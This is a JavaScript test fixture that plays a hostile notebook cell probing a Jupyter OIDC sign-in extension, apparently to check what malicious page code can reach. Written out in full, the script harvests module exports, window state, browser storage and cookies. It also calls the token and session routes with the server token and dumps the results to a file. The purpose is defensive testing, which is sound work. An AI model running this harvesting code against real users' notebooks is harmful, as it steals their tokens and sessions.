// What a hostile cell puts into the page (test_hostile.py): it imports every module the extension
// serves and walks their exports, the page's window, storage and cookies, then calls every route of
// the extension with the server's token, and writes all it found into a file through Jupyter's
// contents API. __MODULES__, __CONFIG__, __TOKEN__ and __DUMP__ are filled in by the test.
(async () => {
  window.__hostileMarker = { deep: { value: "hostile-walker-reached-" + "depth-two" } };
  const out = [];
  const seen = new WeakSet();
  let budget = 400000;
  const walk = (v, depth) => {
    if (budget-- <= 0) return;
    if (typeof v === "string") return void out.push(v);
    if (v === null || (typeof v !== "object" && typeof v !== "function") || depth > 6) return;
    if (seen.has(v)) return;
    seen.add(v);
    if (v instanceof Map) for (const [k, x] of v) { walk(k, depth + 1); walk(x, depth + 1); }
    if (v instanceof Set) for (const x of v) walk(x, depth + 1);
    let keys = [];
    try { keys = Object.getOwnPropertyNames(v); } catch (e) { return; }
    for (const k of keys) {
      let x;
      try { x = v[k]; } catch (e) { continue; }
      walk(x, depth + 1);
    }
  };
  const base = JSON.parse(document.getElementById("jupyter-config-data").textContent).baseUrl;
  // One URL is one module instance, shared with the widget: whatever its exports reach is reachable.
  for (const name of __MODULES__) {
    try {
      const mod = await import(location.origin + base + "static/ipython_oidc_client/" + name);
      walk(mod, 0);
      if (typeof mod.default === "function") walk(await mod.default(), 0);
    } catch (e) {
      out.push("import-failed " + name + " " + e);
    }
  }
  for (const k of Object.getOwnPropertyNames(window)) {
    let x;
    try { x = window[k]; } catch (e) { continue; }
    walk(x, 0);
  }
  out.push(JSON.stringify({ ...sessionStorage }), JSON.stringify({ ...localStorage }), document.cookie);
  const headers = { Authorization: "token __TOKEN__", "Content-Type": "application/json" };
  const call = async (method, path, body) => {
    try {
      const r = await fetch(base + path, {
        method, headers, redirect: "manual", body: body === undefined ? undefined : JSON.stringify(body),
      });
      const text = await r.text();
      out.push(`${method} ${path} ${r.status} ${text}`);
      return text;
    } catch (e) {
      out.push(`${method} ${path} failed ${e}`);
      return "";
    }
  };
  const instance = "hostile" + Math.random().toString(16).slice(2);
  const begun = await call("POST", "oidc/signin", {
    request: __CONFIG__, instance, fresh: false, renew_before: 60,
    redirect_uri: location.origin + base + "oidc/redirect.html",
  });
  let sid = "none";
  try { sid = JSON.parse(begun).session.id; } catch (e) { out.push("no-session " + e); }
  await call("GET", "oidc/providers");
  await call("GET", "oidc/sessions/" + sid);
  await call("GET", "oidc/instances/" + instance);
  await call("POST", "oidc/watch", { sessions: { [sid]: 0 } });
  await call("POST", "oidc/sessions/" + sid + "/renew", {});
  await call("POST", "oidc/sessions/" + sid + "/token", {});
  await call("POST", "oidc/redeem", { state: "not-a-state", response: { code: "x", state: "not-a-state" } });
  await call("POST", "oidc/return-path", { path: base });
  await call("GET", "oidc/return");
  await call("GET", "oidc/redirect.html");
  await call("POST", "oidc/sessions/" + sid + "/logout", { post_logout_redirect_uri: location.origin + base });
  out.push("END-OF-DUMP");
  const xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "");
  await fetch(base + "api/contents/__DUMP__", {
    method: "PUT",
    headers: { "X-XSRFToken": xsrf, "Content-Type": "application/json" },
    body: JSON.stringify({ type: "file", format: "text", content: out.join("\n") }),
  });
})();
